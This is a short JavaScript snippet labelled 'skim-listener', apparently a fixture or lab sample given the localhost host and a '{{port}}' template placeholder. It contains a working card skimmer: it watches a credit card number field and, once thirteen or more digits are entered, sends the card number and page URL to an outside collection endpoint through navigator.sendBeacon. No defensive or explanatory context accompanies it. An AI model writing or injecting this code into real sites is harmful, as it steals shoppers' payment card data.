/* tw:skim-listener */
document.querySelector('#cc-number').addEventListener('input', function (event) {
  if (event.target.value.length < 13) return
  navigator.sendBeacon('http://cdn-stat.localhost:{{port}}/c', JSON.stringify({ u: location.href, n: event.target.value }))
})
